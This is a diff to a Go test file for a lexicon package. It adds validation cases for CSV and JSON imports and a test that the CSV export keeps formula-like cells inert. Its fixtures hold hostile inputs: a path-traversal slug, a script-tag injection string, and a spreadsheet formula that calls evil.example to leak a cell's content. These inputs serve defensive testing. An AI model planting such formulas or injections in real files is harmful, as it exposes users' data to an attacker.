@@ -1,6 +1,8 @@
 package lexicons
 
 import (
+	"bytes"
+	"encoding/csv"
 	"reflect"
 	"slices"
 	"strings"
@@ -109,6 +111,8 @@ func TestABadFileIsRefusedWithTheLineAndFieldAtFault(t *testing.T) {
 		t.Fatal(err)
 	}
 	lines := strings.Split(string(good), "\n")
+	const termRow = "term,,,,en,,,phrase,,,,note,,,https://example.org/s\n"
+	const jsonConcept = `{"slug": "c", "name": "C", "terms": [{"phrase": "p", "note": "n", "source": {"url": "https://example.org/s"}}]}`
 	tests := []struct {
 		name   string
 		data   string
@@ -125,6 +129,14 @@ func TestABadFileIsRefusedWithTheLineAndFieldAtFault(t *testing.T) {
 		{"term before any concept", lines[0] + "\nlexicon,x,X,,en,,,,,,,,,,\nterm,,,,en,,,p,,,,n,,,https://e.org\n", true, "Line 3, kind"},
 		{"term without a source in CSV", lines[0] + "\nlexicon,x,X,,en,,,,,,,,,,\nconcept,c,C,,,,,,,,,,,,\nterm,,,,en,,,phrase,,,,note,,,\n", true, "Line 4"},
 		{"unbalanced quote in CSV", lines[0] + "\nlexicon,\"x,X\n", true, "not valid CSV"},
+		{"unknown column in CSV", lines[0] + ",colour\nlexicon,x,X,,en,,,,,,,,,,,\n", true, "Line 1, colour"},
+		{"slug with a slash in CSV", lines[0] + "\nlexicon,a/../b,X,,en,,,,,,,,,,\nconcept,c,C,,,,,,,,,,,,\n" + termRow, true, "Line 2: The lexicon: the slug"},
+		{"concept slug with markup in CSV", lines[0] + "\nlexicon,x,X,,en,,,,,,,,,,\nconcept,\"\"\"><script>\",C,,,,,,,,,,,,\n" + termRow, true, "Line 3: Concept 1"},
+		{"slug with a line break in JSON", "{\"slug\": \"x\\ny\", \"name\": \"X\", \"language\": \"en\",\n\"concepts\": [" + jsonConcept + "]}", false, "Line 1, slug"},
+		{"slug of 5,000 characters in JSON", "{\n\"slug\": \"" + strings.Repeat("a", 5000) + "\",\n\"name\": \"X\", \"language\": \"en\", \"concepts\": [" + jsonConcept + "]}", false, "Line 2, slug"},
+		{"name of 100,000 characters in JSON", "{\"slug\": \"x\", \"language\": \"en\",\n\"name\": \"" + strings.Repeat("n", 100_000) + "\", \"concepts\": [" + jsonConcept + "]}", false, "Line 2, name"},
+		{"long perspective name in CSV", lines[0] + "\nlexicon,x,X,,en,,,,,,,,,,\nperspective,p," + strings.Repeat("n", 201) + ",,,,,,,,,,,,\nconcept,c,C,,,,,,,,,,,,\n" + termRow, true, "Line 3: Perspective 1's name"},
+		{"invalid term in JSON, on its line", "{\"slug\":\"x\",\"name\":\"X\",\"language\":\"en\",\"concepts\":[\n{\"slug\":\"c\",\"name\":\"C\",\"terms\":[\n{\"phrase\":\"p\",\"note\":\"n\"}]}]}", false, "Line 3, concepts[0].terms[0]"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -134,8 +146,12 @@ func TestABadFileIsRefusedWithTheLineAndFieldAtFault(t *testing.T) {
 			} else {
 				_, err = ImportJSON([]byte(tt.data))
 			}
-			if framing.ErrorCode(err) != framing.EInvalid || !strings.Contains(framing.ErrorMessage(err), tt.wanted) {
-				t.Errorf("error %v, want invalid mentioning %q", err, tt.wanted)
+			msg := framing.ErrorMessage(err)
+			if framing.ErrorCode(err) != framing.EInvalid || !strings.Contains(msg, tt.wanted) {
+				t.Errorf("error %.300v, want invalid mentioning %q", err, tt.wanted)
+			}
+			if !strings.HasPrefix(msg, "Line ") {
+				t.Errorf("error %.300q names no line", msg)
 			}
 		})
 	}
@@ -196,5 +212,44 @@ func TestShippedLexiconsCoverTheirTopics(t *testing.T) {
 		if len(m.Analyze(w).Matches) == 0 {
 			t.Errorf("no shipped term finds %q", w)
 		}
+	}
+}
+
+// A lexicon's text may start like a spreadsheet formula: the CSV export
+// keeps every such cell inert, starts with a byte-order mark so that
+// spreadsheets read it as UTF-8, and the import gives the text back as it was.
+func TestTheCSVExportKeepsFormulasInertAndTheImportGivesTheTextBack(t *testing.T) {
+	l := framing.Lexicon{Slug: "formulas", Name: "=Formulas", Language: "en", Scope: framing.ScopeGeneral, Description: "+1 for Chloé",
+		Perspectives: []framing.Perspective{{Slug: "p", Name: "@mention", Description: "-minus"}},
+		Concepts: []framing.Concept{{Slug: "c", Name: "Concept", Category: "places", Description: "'=quoted already",
+			Terms: []framing.Term{{Phrase: "Northburg", Language: "en", Perspective: "p", Match: framing.MatchWord,
+				Note: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Neutral: "-the city", SourceTitle: "@source",
+				SourceURL: "https://example.org/n"}}}},
+	}
+	data, err := ExportCSV(l)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rest, ok := bytes.CutPrefix(data, []byte("\xEF\xBB\xBF"))
+	if !ok {
+		t.Error("the CSV does not start with a UTF-8 byte-order mark")
+	}
+	rows, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+		}
+	}
+	back, err := ImportCSV(data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(back, l) {
+		t.Errorf("round trip changed the lexicon:\n got %+v\nwant %+v", back, l)
 	}
 }
